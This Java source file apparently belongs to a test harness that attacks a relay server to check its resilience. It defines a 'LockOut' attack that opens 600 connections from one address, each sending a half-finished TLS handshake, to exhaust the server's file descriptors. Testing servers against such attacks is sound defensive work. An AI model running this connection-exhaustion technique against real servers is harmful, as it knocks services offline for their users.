package far.relay.attack;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.ChannelHandlerContext;
import java.io.IOException;

/** One address opens more connections than the server has descriptors for, and keeps all of them open. */
final class LockOut implements Attack {
    private static final int CONNECTIONS = 600;
    /** The beginning of a TLS record whose rest never arrives. For a server without TLS it is half a line. */
    private static final ByteBuf HALF_A_HANDSHAKE = Unpooled.unreleasableBuffer(
            Unpooled.wrappedBuffer(new byte[] {0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, (byte) 0xfc}));

    @Override
    public Running start(Target target) throws IOException {
        return Horde.startRaw(target, CONNECTIONS, Staying::new);
    }

    private static final class Staying extends HostileClient {
        @Override
        public void channelActive(ChannelHandlerContext ctx) {
            ctx.writeAndFlush(HALF_A_HANDSHAKE.duplicate());
        }
    }

    @Override
    public Setup setup() {
        return Setup.FEW_DESCRIPTORS;
    }

    @Override
    public long patience(boolean tls) {
        return tls ? TlsAttack.PATIENCE : Attack.super.patience(false);
    }

    @Override
    public String toString() {
        return "one address keeps all the connections that it can get";
    }
}
